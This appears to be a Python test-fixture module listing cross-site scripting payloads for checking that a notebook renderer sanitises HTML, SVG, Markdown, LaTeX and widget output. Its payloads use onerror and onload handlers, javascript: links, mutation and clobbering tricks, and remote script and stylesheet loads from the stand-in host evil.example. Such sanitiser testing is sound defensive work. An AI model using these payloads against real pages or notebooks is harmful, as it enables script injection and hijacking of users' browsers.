"""What a hostile cell would display: each attack calls ``pwned`` or asks for a page.

``HTML`` are those that a browser runs when nobody cleans them, which a test verifies;
``OTHER`` come in the other types that a notebook may display.
"""

FAR = "https://evil.example"


def tell(name: str) -> str:
    """JavaScript that says which attack succeeded, without any quotation mark."""
    codes = ",".join(str(ord(letter)) for letter in name)
    return f"pwned(String.fromCharCode({codes}))"


def html(name: str, template: str) -> str:
    return template.replace("CODE", tell(name)).replace("FAR", f"{FAR}/{name}")


HTML = {
    name: html(name, template)
    for name, template in {
        "script": "<script>CODE</script>",
        "far-script": '<script src="FAR"></script>',
        "image-error": '<img src="x" onerror="CODE">',
        "no-quotes": "<IMG SRC=x OnErRoR=CODE>",
        "slashes": '<img/src="x"/onerror=CODE>',
        "svg-load": '<svg onload="CODE"></svg>',
        "svg-script": "<svg><script>CODE</script></svg>",
        "svg-animate": '<svg><animate onbegin="CODE" attributeName="x" dur="1s"></svg>',
        "svg-link": '<svg><a href="javascript:CODE"><text y="20">x</text></a></svg>',
        "click": '<b onclick="CODE">click</b>',
        "link": '<a href="javascript:CODE">link</a>',
        "link-tab": '<a href="java\tscript:CODE">link</a>',
        "link-entity": '<a href="&#106;avascript&colon;CODE">link</a>',
        "details": '<details open ontoggle="CODE"><summary>x</summary></details>',
        "iframe": '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
        "iframe-link": '<iframe src="javascript:parent.CODE"></iframe>',
        "embed": '<object data="FAR"></object><embed src="FAR">',
        "form": '<form action="javascript:CODE"><button>go</button></form>',
        "focus": '<input autofocus onfocus="CODE">',
        "animation": (
            "<style>@keyframes k{}</style>"
            '<i style="animation: k 1s" onanimationstart="CODE">x</i>'
        ),
        "style-import": '<style>@import "FAR";</style>',
        "style-url": "<style>#T_a { background: url(FAR) }</style><i id=T_a>x</i>",
        "style-escape": "<style>#T_a { color: red }</style x><img src=x onerror=CODE>",
        "attribute-url": '<i style="background: url(FAR)">x</i>',
        "attribute-set": """<i style='background: image-set("FAR" 1x)'>x</i>""",
        "picture": '<img src="FAR">',
        "picture-set": '<img srcset="FAR 1x">',
        "video": '<video src="x" onerror="CODE" poster="FAR"></video>',
        "fetch-ahead": '<link rel="stylesheet" href="FAR">',
        "noscript": '<noscript><p title="</noscript><img src=x onerror=CODE>">',
        "mutation-svg": '<svg></p><style><a id="</style><img src=1 onerror=CODE>">',
        "comment": '<!--><img src=x onerror="CODE">-->',
    }.items()
}
# what works together with a page's own scripts or text, or in other browsers
HTML_QUIET = {
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "slider": html(
        "slider",
        '<div class="slider" data-slider="json"><svg data-s="0"></svg>'
        '<div class="slider-controls"><input type="range" data-control="1"></div>'
        '<script type="application/json" class="slider-data">{"slots": [[0, "", '
        '["<img src=x onerror=CODE>"], 0]], "sentences": []}</script></div>',
    ),
    "mutation": html(
        "mutation",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
    ),
    "unfinished": html("unfinished", '<img src="x" onerror="CODE" x="'),
    "clobber": '<a id="MathJax"></a><form name="body"><input name="children"></form>',
    "cover": (
        '<a href="https://evil.example" style="position: fixed; inset: 0; '
        'z-index: 9999">x</a>'
    ),
}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{}</svg>'
OTHER = {
    "js": ("application/javascript", tell("js")),
    "widget-script": (
        "application/vnd.jupyter.widget-view+json",
        '</script><img src=x onerror="' + tell("widget-script") + '">',
    ),
    "file-script": (
        "image/svg+xml",
        SVG.format(f"<script>{tell('file-script')}</script>"),
    ),
    "file-load": (
        "image/svg+xml",
        SVG.replace("<svg", f'<svg onload="{tell("file-load")}"').format("<g/>"),
    ),
    "file-foreign": (
        "image/svg+xml",
        SVG.format(
            '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" '
            f'onerror="{tell("file-foreign")}"/></foreignObject>'
        ),
    ),
    "file-far": ("image/svg+xml", SVG.format(f'<image href="{FAR}/file-far"/>')),
    "file-style": (
        "image/svg+xml",
        SVG.format(f"<style>g {{ fill: url({FAR}/file-style) }}</style><g/>"),
    ),
    "file-sheet": (
        "image/svg+xml",
        f'<?xml version="1.0"?><?xml-stylesheet href="{FAR}/file-sheet"?>'
        + SVG.format("<g/>"),
    ),
    "markdown": ("text/markdown", f"Text <img src=x onerror={tell('markdown')}> more"),
    "markdown-block": ("text/markdown", f"<script>{tell('markdown-block')}</script>"),
    "markdown-link": ("text/markdown", f"[x](javascript:{tell('markdown-link')})"),
    "markdown-picture": ("text/markdown", f"![x]({FAR}/markdown-picture)"),
    "markdown-file": ("text/markdown", "[x](../../references.bib) ![y](/README.md)"),
    "latex-text": ("text/latex", f"$x$</div><script>{tell('latex-text')}</script>"),
    "plain": ("text/plain", f"<script>{tell('plain')}</script>"),
}
# formulas that a cell displays: TeX refuses them, and the build stops
FORMULAS = {
    "href": r"\href{javascript:pwned('x')}{x}",
    "token": r'\mmlToken{mi}[href="javascript:pwned(1)"]{x}',
    "html": r"\require{html}\style{background:url(" + FAR + "/latex-html)}{x}",
    "box": r"\bbox[background:url(" + FAR + "/latex-box)]{x}",
}
